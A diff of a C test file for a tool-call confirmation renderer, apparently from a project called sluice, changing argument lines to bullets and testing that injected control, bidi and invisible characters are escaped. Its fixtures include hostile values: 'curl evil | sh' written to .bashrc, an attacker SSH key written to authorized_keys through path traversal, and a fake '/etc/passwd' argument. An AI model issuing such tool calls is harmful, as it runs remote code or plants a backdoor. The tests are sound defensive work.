@@ -93,7 +93,12 @@ static size_t check_safe(struct sl_str s, const char *file, int line)
         size_t n = sl_utf8_decode(s.p + i, s.len - i, &cp);
         if (cp == '\n')
             lines++;
-        else if (forbidden(cp)) {
+        else if (cp == 0x2022 && !(i >= 1 && s.p[i - 1] == '\n' && i + n < s.len &&
+                                   s.p[i + n] == ' ')) {
+            /* the bullet is sluice's own, at the start of an argument line and nowhere else */
+            print_error("%s: a raw bullet not starting a line at byte %zu\n", current_case, i);
+            _fail(file, line);
+        } else if (forbidden(cp)) {
             print_error("%s: raw U+%04X at byte %zu\n", current_case, (unsigned)cp, i);
             _fail(file, line);
         }
@@ -200,35 +205,35 @@ struct exact_case {
 static const struct exact_case exact_cases[] = {
     { "write_file, sorted keys", "write_file", "demo", demo_args,
       "Allow tool \"write_file\" on server \"demo\" to run with these arguments?\n"
-      "  content: \"hello\\nworld\"\n"
-      "  path: \"/tmp/demo/a.txt\"" },
+      "• content: \"hello\\nworld\"\n"
+      "• path: \"/tmp/demo/a.txt\"" },
     { "no server", "write_file", "", demo_args,
       "Allow tool \"write_file\" to run with these arguments?\n"
-      "  content: \"hello\\nworld\"\n"
-      "  path: \"/tmp/demo/a.txt\"" },
+      "• content: \"hello\\nworld\"\n"
+      "• path: \"/tmp/demo/a.txt\"" },
     { "NULL args", "list_directory", "", no_args,
       "Allow tool \"list_directory\" to run with no arguments?" },
     { "empty object", "list_directory", "demo", empty_object,
       "Allow tool \"list_directory\" on server \"demo\" to run with no arguments?" },
     { "every type, nested objects sorted", "t", "", mixed_args,
       "Allow tool \"t\" to run with these arguments?\n"
-      "  arr: [1,\"x\",{\"a\":1,\"b\":2}]\n"
-      "  big: 123456789012345678901234567890\n"
-      "  f: false\n"
-      "  n: -1.50e+3\n"
-      "  obj: {\"x\":{},\"y\":[]}\n"
-      "  t: true\n"
-      "  z: null" },
+      "• arr: [1,\"x\",{\"a\":1,\"b\":2}]\n"
+      "• big: 123456789012345678901234567890\n"
+      "• f: false\n"
+      "• n: -1.50e+3\n"
+      "• obj: {\"x\":{},\"y\":[]}\n"
+      "• t: true\n"
+      "• z: null" },
     { "keys that are not plain are quoted", "t", "", odd_keys,
       "Allow tool \"t\" to run with these arguments?\n"
-      "  \"\": 2\n"
-      "  \"a\\\"b\": 3\n"
-      "  \"my key\": 1\n"
-      "  ok_key.v-2: 5\n"
-      "  \"x: \\\"y\\\"\": 4" },
+      "• \"\": 2\n"
+      "• \"a\\\"b\": 3\n"
+      "• \"my key\": 1\n"
+      "• ok_key.v-2: 5\n"
+      "• \"x: \\\"y\\\"\": 4" },
     { "arguments not an object", "t", "", array_args,
       "Allow tool \"t\" to run with these arguments?\n"
-      "  (arguments are not an object): [1]" },
+      "• (arguments are not an object): [1]" },
 };
 
 static void test_exact(void **state)
@@ -280,10 +285,10 @@ static void test_real_values_appear(void **state)
     confirm_render(&out, SL_STR("delete_file"), o, SL_STR("files"));
     assert_contains(&out, "\"delete_file\"");
     assert_contains(&out, "\"files\"");
-    assert_contains(&out, "  path: \"/srv/data/report-2026.csv\"");
-    assert_contains(&out, "  mode: \"overwrite\"");
-    assert_contains(&out, "  retries: 3");
-    assert_contains(&out, "  unicode: \"caf\xC3\xA9 \xE6\x97\xA5\xE6\x9C\xAC \xF0\x9F\x98\x80\"");
+    assert_contains(&out, "• path: \"/srv/data/report-2026.csv\"");
+    assert_contains(&out, "• mode: \"overwrite\"");
+    assert_contains(&out, "• retries: 3");
+    assert_contains(&out, "• unicode: \"caf\xC3\xA9 \xE6\x97\xA5\xE6\x9C\xAC \xF0\x9F\x98\x80\"");
     assert_int_equal(assert_safe(sl_buf_str(&out)), 5);
     sl_buf_free(&out);
 }
@@ -300,40 +305,43 @@ struct hostile_case {
 #define H(name, lit, want) { name, lit, sizeof(lit) - 1, want }
 
 static const struct hostile_case hostile_cases[] = {
-    H("newline", "a\nb", "  v: \"a\\nb\""),
-    H("fake extra argument", "x\n  path: \"/etc/passwd\"", "  v: \"x\\n  path: \\\"/etc/passwd\\\"\""),
-    H("carriage return", "safe\rEVIL", "  v: \"safe\\rEVIL\""),
-    H("tab, backspace, form feed", "a\tb\bc\fd", "  v: \"a\\tb\\bc\\fd\""),
-    H("ANSI clear + colour", "\x1b[2J\x1b[31mred", "  v: \"\\u001b[2J\\u001b[31mred\""),
-    H("NUL", "a\0b", "  v: \"a\\u0000b\""),
-    H("DEL", "a\x7f" "b", "  v: \"a\\u007fb\""),
-    H("C1 CSI", "a\xC2\x9B" "2J", "  v: \"a\\u009b2J\""),
-    H("NEL", "a\xC2\x85" "b", "  v: \"a\\u0085b\""),
-    H("RLO", "invoice\xE2\x80\xAE" "fdp.exe", "  v: \"invoice\\u202efdp.exe\""),
-    H("LRE/PDF", "\xE2\x80\xAA" "x\xE2\x80\xAC", "  v: \"\\u202ax\\u202c\""),
+    H("newline", "a\nb", "• v: \"a\\nb\""),
+    H("fake extra argument", "x\n  path: \"/etc/passwd\"", "• v: \"x\\n  path: \\\"/etc/passwd\\\"\""),
+    /* sluice's bullet is escaped, so a value cannot pose as one more argument even where a
+     * client collapses the newlines: "v: "x • path: …"" would read as two arguments */
+    H("fake bullet", "x \xE2\x80\xA2 path: \"/etc/passwd\"", "• v: \"x \\u2022 path: \\\"/etc/passwd\\\"\""),
+    H("carriage return", "safe\rEVIL", "• v: \"safe\\rEVIL\""),
+    H("tab, backspace, form feed", "a\tb\bc\fd", "• v: \"a\\tb\\bc\\fd\""),
+    H("ANSI clear + colour", "\x1b[2J\x1b[31mred", "• v: \"\\u001b[2J\\u001b[31mred\""),
+    H("NUL", "a\0b", "• v: \"a\\u0000b\""),
+    H("DEL", "a\x7f" "b", "• v: \"a\\u007fb\""),
+    H("C1 CSI", "a\xC2\x9B" "2J", "• v: \"a\\u009b2J\""),
+    H("NEL", "a\xC2\x85" "b", "• v: \"a\\u0085b\""),
+    H("RLO", "invoice\xE2\x80\xAE" "fdp.exe", "• v: \"invoice\\u202efdp.exe\""),
+    H("LRE/PDF", "\xE2\x80\xAA" "x\xE2\x80\xAC", "• v: \"\\u202ax\\u202c\""),
     H("isolates", "\xE2\x81\xA6" "a\xE2\x81\xA7" "b\xE2\x81\xA8" "c\xE2\x81\xA9",
-      "  v: \"\\u2066a\\u2067b\\u2068c\\u2069\""),
-    H("RLM, LRM, ALM", "\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C", "  v: \"\\u200f\\u200e\\u061c\""),
+      "• v: \"\\u2066a\\u2067b\\u2068c\\u2069\""),
+    H("RLM, LRM, ALM", "\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C", "• v: \"\\u200f\\u200e\\u061c\""),
     H("zero width space/joiners", "r\xE2\x80\x8Bm \xE2\x80\x8C\xE2\x80\x8D",
-      "  v: \"r\\u200bm \\u200c\\u200d\""),
-    H("word joiner, invisible times", "\xE2\x81\xA0\xE2\x81\xA2", "  v: \"\\u2060\\u2062\""),
-    H("BOM", "\xEF\xBB\xBFx", "  v: \"\\ufeffx\""),
-    H("soft hyphen", "rm\xC2\xAD-rf", "  v: \"rm\\u00ad-rf\""),
-    H("CGJ", "a\xCD\x8F", "  v: \"a\\u034f\""),
-    H("Mongolian vowel separator", "a\xE1\xA0\x8E", "  v: \"a\\u180e\""),
+      "• v: \"r\\u200bm \\u200c\\u200d\""),
+    H("word joiner, invisible times", "\xE2\x81\xA0\xE2\x81\xA2", "• v: \"\\u2060\\u2062\""),
+    H("BOM", "\xEF\xBB\xBFx", "• v: \"\\ufeffx\""),
+    H("soft hyphen", "rm\xC2\xAD-rf", "• v: \"rm\\u00ad-rf\""),
+    H("CGJ", "a\xCD\x8F", "• v: \"a\\u034f\""),
+    H("Mongolian vowel separator", "a\xE1\xA0\x8E", "• v: \"a\\u180e\""),
     H("Hangul fillers", "\xE1\x85\x9F\xE1\x85\xA0\xE3\x85\xA4\xEF\xBE\xA0",
-      "  v: \"\\u115f\\u1160\\u3164\\uffa0\""),
-    H("variation selector", "\xE2\x9D\xA4\xEF\xB8\x8F", "  v: \"\xE2\x9D\xA4\\ufe0f\""),
-    H("line/paragraph separators", "a\xE2\x80\xA8" "b\xE2\x80\xA9", "  v: \"a\\u2028b\\u2029\""),
+      "• v: \"\\u115f\\u1160\\u3164\\uffa0\""),
+    H("variation selector", "\xE2\x9D\xA4\xEF\xB8\x8F", "• v: \"\xE2\x9D\xA4\\ufe0f\""),
+    H("line/paragraph separators", "a\xE2\x80\xA8" "b\xE2\x80\xA9", "• v: \"a\\u2028b\\u2029\""),
     H("interlinear annotation", "\xEF\xBF\xB9" "a\xEF\xBF\xBA" "b\xEF\xBF\xBB",
-      "  v: \"\\ufff9a\\ufffab\\ufffb\""),
-    H("tag characters", "ok\xF3\xA0\x81\x81\xF3\xA0\x81\xBF", "  v: \"ok\\u{e0041}\\u{e007f}\""),
-    H("VS supplement", "x\xF3\xA0\x84\x80", "  v: \"x\\u{e0100}\""),
-    H("literal backslash-u text stays distinct", "\\u202e", "  v: \"\\\\u202e\""),
-    H("invalid UTF-8 replaced", "a\xFF\xC0\xAF" "b", "  v: \"a\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD" "b\""),
-    H("truncated sequence at end", "a\xE2\x80", "  v: \"a\xEF\xBF\xBD\xEF\xBF\xBD\""),
-    H("encoded surrogate", "\xED\xA0\x80", "  v: \"\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\""),
-    H("private use left alone", "\xEE\x80\x80", "  v: \"\xEE\x80\x80\""),
+      "• v: \"\\ufff9a\\ufffab\\ufffb\""),
+    H("tag characters", "ok\xF3\xA0\x81\x81\xF3\xA0\x81\xBF", "• v: \"ok\\u{e0041}\\u{e007f}\""),
+    H("VS supplement", "x\xF3\xA0\x84\x80", "• v: \"x\\u{e0100}\""),
+    H("literal backslash-u text stays distinct", "\\u202e", "• v: \"\\\\u202e\""),
+    H("invalid UTF-8 replaced", "a\xFF\xC0\xAF" "b", "• v: \"a\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD" "b\""),
+    H("truncated sequence at end", "a\xE2\x80", "• v: \"a\xEF\xBF\xBD\xEF\xBF\xBD\""),
+    H("encoded surrogate", "\xED\xA0\x80", "• v: \"\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\""),
+    H("private use left alone", "\xEE\x80\x80", "• v: \"\xEE\x80\x80\""),
 };
 
 static void test_hostile_values(void **state)
@@ -363,7 +371,7 @@ static void test_hostile_names(void **state)
                    SL_STR("s\"rv\x1b[0m"));
     assert_int_equal(assert_safe(sl_buf_str(&out)), 2);
     assert_contains(&out, "Allow tool \"write\\nfile\\u202e\\u0000\" on server \"s\\\"rv\\u001b[0m\"");
-    assert_contains(&out, "  \"pa\\u001bth\\n\\u0000x\\u202e\": 1");
+    assert_contains(&out, "• \"pa\\u001bth\\n\\u0000x\\u202e\": 1");
     sl_buf_free(&out);
 }
 
@@ -433,7 +441,7 @@ static void test_long_value(void **state)
     json_write_string(&json, big, len);
     want_mark(&mark, json.p, json.len);
     assert_true(contains(&mark, "[1048578 bytes, sha256 "));
-    sl_buf_puts(&want, "Allow tool \"t\" to run with these arguments?\n  v: \"");
+    sl_buf_puts(&want, "Allow tool \"t\" to run with these arguments?\n• v: \"");
     sl_buf_put(&want, big, CONFIRM_MAX_VALUE - mark.len - 1);
     sl_buf_put(&want, mark.p, mark.len);
     assert_string_equal(out.p, want.p);
@@ -456,9 +464,9 @@ static void test_long_value_boundaries(void **state)
     want_mark(&want, json.p, json.len);
     /* room for the text: CONFIRM_MAX_VALUE - marker, `"` first, then whole 2-byte characters */
     size_t room = CONFIRM_MAX_VALUE - want.len, shown = 1 + (room - 1) / 2 * 2;
-    const char *v = memmem(out.p, out.len, "  v: \"", 6);
+    const char *v = memmem(out.p, out.len, "• v: \"", strlen("• v: \""));
     assert_non_null(v);
-    assert_int_equal((size_t)(out.p + out.len - (v + 5)), shown + want.len);
+    assert_int_equal((size_t)(out.p + out.len - (v + strlen("• v: "))), shown + want.len);
     assert_memory_equal(out.p + out.len - want.len, want.p, want.len);
     assert_safe(sl_buf_str(&out));
     free(e_acute);
@@ -473,9 +481,9 @@ static void test_long_value_boundaries(void **state)
     /* neutralized: `"` then \u202e units of 6 bytes, never half of one */
     room = CONFIRM_MAX_VALUE - want.len;
     shown = 1 + (room - 1) / 6 * 6;
-    v = memmem(out.p, out.len, "  v: \"", 6);
+    v = memmem(out.p, out.len, "• v: \"", strlen("• v: \""));
     assert_non_null(v);
-    assert_int_equal((size_t)(out.p + out.len - (v + 5)), shown + want.len);
+    assert_int_equal((size_t)(out.p + out.len - (v + strlen("• v: "))), shown + want.len);
     assert_contains(&out, "\\u202e" ELLIPSIS "[");
     assert_safe(sl_buf_str(&out));
     free(rlo);
@@ -499,7 +507,7 @@ static void test_long_key(void **state)
     for (int i = 0; i < 2; i++) {
         k[999] = i ? 'k' : 'j';
         sl_buf_reset(&want);
-        sl_buf_puts(&want, "\n  ");
+        sl_buf_puts(&want, "\n• ");
         sl_buf_put(&want, k, CONFIRM_MAX_KEY);
         want_mark(&want, k, 1000);
         sl_buf_puts(&want, i ? ": 1" : ": 2");
@@ -538,8 +546,8 @@ static void test_many_args(void **state)
     struct sl_buf out = { 0 };
     assert_int_equal(confirm_render(&out, SL_STR("t"), o, SL_STR_NULL), 0);
     assert_int_equal(assert_safe(sl_buf_str(&out)), 1 + 1000);
-    assert_contains(&out, "\n  k0000: 0\n  k0001: 0\n");
-    assert_contains(&out, "\n  k0998: 0\n  k0999: 0");
+    assert_contains(&out, "\n• k0000: 0\n• k0001: 0\n");
+    assert_contains(&out, "\n• k0998: 0\n• k0999: 0");
     assert_false(contains(&out, "more argument"));
     sl_buf_free(&out);
 }
@@ -568,7 +576,7 @@ static void test_message_bound(void **state)
     size_t shown_len = 0;
     for (int i = 0; i < 100; i++) {
         char k[32];
-        snprintf(k, sizeof(k), "\n  k%03d: \"%c%c", i, 'A' + i % 26, 'A' + i / 26);
+        snprintf(k, sizeof(k), "\n• k%03d: \"%c%c", i, 'A' + i % 26, 'A' + i / 26);
         const char *line = memmem(s.p, s.len, k, strlen(k));
         assert_non_null(line);
         const char *end = memchr(line + 1, '\n', (size_t)(s.p + s.len - line - 1));
@@ -601,12 +609,12 @@ static void test_message_share(void **state)
     struct sl_buf out = { 0 };
     assert_int_equal(confirm_render(&out, SL_STR("t"), o, SL_STR_NULL), 0);
     assert_safe(sl_buf_str(&out));
-    assert_contains(&out, "\n  path: \"/tmp/a.txt\"");
-    const char *c = memmem(out.p, out.len, "\n  content: ", 12);
+    assert_contains(&out, "\n• path: \"/tmp/a.txt\"");
+    const char *c = memmem(out.p, out.len, "\n• content: ", strlen("\n• content: "));
     assert_non_null(c);
     const char *end = memchr(c + 1, '\n', (size_t)(out.p + out.len - c - 1));
     assert_non_null(end);
-    assert_int_equal((size_t)(end - c) - strlen("\n  content: "), CONFIRM_MAX_VALUE);
+    assert_int_equal((size_t)(end - c) - strlen("\n• content: "), CONFIRM_MAX_VALUE);
     assert_contains(&out, ELLIPSIS "[5002 bytes, sha256 ");
     free(x);
     sl_buf_free(&out);
@@ -626,7 +634,7 @@ static void test_too_many_keys_refused(void **state)
         snprintf(k, sizeof(k), "k%04d", i);
         add(a, o, k, json_new_number(a, "0"));
         if (i < 1200)
-            continue; /* 1200 lines of 11 bytes surely fit */
+            continue; /* 1200 lines of 13 bytes surely fit */
         struct sl_buf t = { 0 };
         int rc = confirm_render(&t, SL_STR("t"), o, SL_STR_NULL);
         sl_buf_free(&t);
@@ -635,8 +643,8 @@ static void test_too_many_keys_refused(void **state)
             break;
         }
     }
-    /* header (43 bytes) + one line of "\n  kNNNN: 0" (11) per key */
-    assert_int_equal(fits, (CONFIRM_MAX_TEXT - 43) / 11);
+    /* header (43 bytes) + one line of "\n• kNNNN: 0" (13) per key */
+    assert_int_equal(fits, (CONFIRM_MAX_TEXT - 43) / 13);
     assert_int_equal(confirm_render(&out, SL_STR("t"), o, SL_STR_NULL), -1);
     assert_string_equal(out.p, "prefix");
     /* 100,000 keys: refused by their count alone */
@@ -709,7 +717,7 @@ static void test_deep_nesting(void **state)
     /* deeper than the parser allows: still bounded, marked, and safe */
     render_one(a, "v", nest(a, 5000, true), &out);
     assert_int_equal(assert_safe(sl_buf_str(&out)), 2);
-    assert_contains(&out, "  v: {\"k\":{\"k\":");
+    assert_contains(&out, "• v: {\"k\":{\"k\":");
     assert_contains(&out, "\xE2\x80\xA6[");
     sl_buf_free(&out);
     sl_buf_free(&want);
@@ -829,9 +837,9 @@ static void test_template_hostile(void **state)
         assert_true(n > 0);
         /* the sentence holds the value exactly as the listing line does */
         confirm_render(&v, SL_STR("t"), o, SL_STR(""));
-        const char *line = memmem(v.p, v.len, "\n  path: ", 9);
+        const char *line = memmem(v.p, v.len, "\n• path: ", strlen("\n• path: "));
         assert_non_null(line);
-        line += 9;
+        line += strlen("\n• path: ");
         size_t vlen = v.len - (size_t)(line - v.p);
         assert_true((size_t)n == strlen("Delete ") + vlen + strlen(" now"));
         assert_memory_equal(out.p + strlen("Delete "), line, vlen);
@@ -903,8 +911,7 @@ static void test_template_bound(void **state)
 
 /* ===== the whole question: declared arguments, facts, the observation ===== */
 
-/* Asserts that every line of s that starts with two spaces and no "| " is an argument line
- * of one of the n keys given (shown bare), and returns how many there are. */
+/* The number of argument lines of s: those that start with sluice's bullet. */
 static size_t argument_lines(struct sl_str s)
 {
     size_t n = 0;
@@ -912,7 +919,7 @@ static size_t argument_lines(struct sl_str s)
         const char *e = memchr(p, '\n', (size_t)(s.p + s.len - p));
         if (e == NULL)
             e = s.p + s.len;
-        if (e - p >= 2 && p[0] == ' ' && p[1] == ' ' && !(e - p >= 4 && p[2] == '|'))
+        if (e - p >= 4 && memcmp(p, "\xE2\x80\xA2 ", 4) == 0)
             n++;
         p = e + 1;
     }
@@ -938,9 +945,9 @@ static void test_junk_keys_first(void **state)
     struct sl_buf out = { 0 };
     assert_int_equal(confirm_render(&out, SL_STR("write_file"), o, SL_STR_NULL), 0);
     assert_int_equal(assert_safe(sl_buf_str(&out)), 201);
-    assert_contains(&out, "\n  path: \"/home/me/.bashrc\"");
-    assert_contains(&out, "\n  content: \"curl evil | sh\"");
-    assert_contains(&out, "\n  a197: \"jj");
+    assert_contains(&out, "\n• path: \"/home/me/.bashrc\"");
+    assert_contains(&out, "\n• content: \"curl evil | sh\"");
+    assert_contains(&out, "\n• a197: \"jj");
     sl_buf_free(&out);
 
     /* declared: path then content, first and unmarked; the junk after them, each marked. The
@@ -956,11 +963,12 @@ static void test_junk_keys_first(void **state)
             o->u.obj.v[i].val = str_n(a, junk, 40);
     assert_int_equal(confirm_question(&out, &c), 0);
     assert_int_equal(assert_safe(sl_buf_str(&out)), 201);
-    assert_true(strncmp(out.p, "Allow tool \"write_file\" to run with these arguments?\n"
-                               "  path: \"/home/me/.bashrc\"\n"
-                               "  content: \"curl evil | sh\"\n"
-                               "  a000" CONFIRM_UNDECLARED ": \"jjj", 143) == 0);
-    assert_contains(&out, "\n  a197" CONFIRM_UNDECLARED ": \"jj");
+    const char *start = "Allow tool \"write_file\" to run with these arguments?\n"
+                        "• path: \"/home/me/.bashrc\"\n"
+                        "• content: \"curl evil | sh\"\n"
+                        "• a000" CONFIRM_UNDECLARED ": \"jjj";
+    assert_true(strncmp(out.p, start, strlen(start)) == 0);
+    assert_contains(&out, "\n• a197" CONFIRM_UNDECLARED ": \"jj");
     free(junk);
     sl_buf_free(&out);
 }
@@ -983,19 +991,19 @@ static void test_declared_order_and_marker(void **state)
     struct sl_buf out = { 0 };
     assert_int_equal(confirm_question(&out, &c), 0);
     assert_buf_equal(out, "Allow tool \"t\" on server \"s\" to run with these arguments?\n"
-                          "  zeta: 2\n"
-                          "  path: \"/x\"\n"
-                          "  a (not declared in the policy): 3\n"
-                          "  b (not declared in the policy): 1\n"
-                          "  \"mode (not declared in the policy)\" (not declared in the policy): 4");
+                          "• zeta: 2\n"
+                          "• path: \"/x\"\n"
+                          "• a (not declared in the policy): 3\n"
+                          "• b (not declared in the policy): 1\n"
+                          "• \"mode (not declared in the policy)\" (not declared in the policy): 4");
     assert_safe(sl_buf_str(&out));
     sl_buf_free(&out);
 
     /* no args: in the policy (an empty list, not NULL): every key is marked */
     c.ndeclared = 0;
     assert_int_equal(confirm_question(&out, &c), 0);
-    assert_contains(&out, "\n  path (not declared in the policy): \"/x\"");
-    assert_contains(&out, "\n  zeta (not declared in the policy): 2");
+    assert_contains(&out, "\n• path (not declared in the policy): \"/x\"");
+    assert_contains(&out, "\n• zeta (not declared in the policy): 2");
     sl_buf_free(&out);
 }
 
@@ -1024,10 +1032,10 @@ static void test_declared_not_squeezed(void **state)
                               .declared = declared, .ndeclared = 2, .tmpl = "Write {path}" };
     struct sl_buf out = { 0 };
     assert_int_equal(confirm_question(&out, &c), 0);
-    assert_contains(&out, "\n  path: \"/home/alice/projects/payroll/secrets/../../../.ssh/"
+    assert_contains(&out, "\n• path: \"/home/alice/projects/payroll/secrets/../../../.ssh/"
                           "authorized_keys\"\n");
-    assert_contains(&out, "\n  content: \"ssh-ed25519 AAAAC3attacker\"\n");
-    assert_contains(&out, "\n  k169 (not declared in the policy): ");
+    assert_contains(&out, "\n• content: \"ssh-ed25519 AAAAC3attacker\"\n");
+    assert_contains(&out, "\n• k169 (not declared in the policy): ");
     assert_true(out.len <= CONFIRM_MAX_TEXT);
     assert_safe(sl_buf_str(&out));
     sl_buf_free(&out);
@@ -1083,7 +1091,7 @@ static void test_facts(void **state)
     assert_buf_equal(out, "Delete \"/x\"\n\n"
                           "Allow tool \"delete_file\" on server \"demo\" to run with these "
                           "arguments?\n"
-                          "  path: \"/x\"\n"
+                          "• path: \"/x\"\n"
                           "This cannot be undone.\n"
                           "This question expires in 120 s (at 2026-12-01T15:04:05Z).");
     sl_buf_free(&out);
@@ -1109,7 +1117,7 @@ static void test_observed_block(void **state)
     const struct sl_str declared[] = { SL_STR("path") };
     static const char file[] =
         "What read_text_file shows now:\n"
-        "  content: \"harmless\"\n"
+        "  \xE2\x80\xA2 content: \"harmless\"\n"
         "  mode (not declared in the policy): 1\n"
         "This cannot be undone.\n"
         "Allow tool \"other\" to run with no arguments?\n"
@@ -1122,13 +1130,13 @@ static void test_observed_block(void **state)
     struct sl_buf out = { 0 };
     assert_int_equal(confirm_question(&out, &c), 0);
     assert_buf_equal(out, "Allow tool \"write_file\" to run with these arguments?\n"
-                          "  path: \"/x\"\n"
+                          "• path: \"/x\"\n"
                           "This question expires in 60 s (at 2026-12-01T15:04:05Z).\n"
                           "\n"
                           "Read from the server just now (the server's text, not arguments of "
                           "this call):\n"
                           "  | What read_text_file shows now:\n"
-                          "  |   content: \"harmless\"\n"
+                          "  |   \\u2022 content: \"harmless\"\n"
                           "  |   mode (not declared in the policy): 1\n"
                           "  | This cannot be undone.\n"
                           "  | Allow tool \"other\" to run with no arguments?\n"
@@ -1175,7 +1183,7 @@ static void test_observed_room(void **state)
         fits = i + 1;
         sl_buf_free(&t);
     }
-    assert_int_equal(fits, (CONFIRM_MAX_TEXT - CONFIRM_MAX_OBSERVED - 43) / 11);
+    assert_int_equal(fits, (CONFIRM_MAX_TEXT - CONFIRM_MAX_OBSERVED - 43) / 13);
     (void)fits;
 }
 
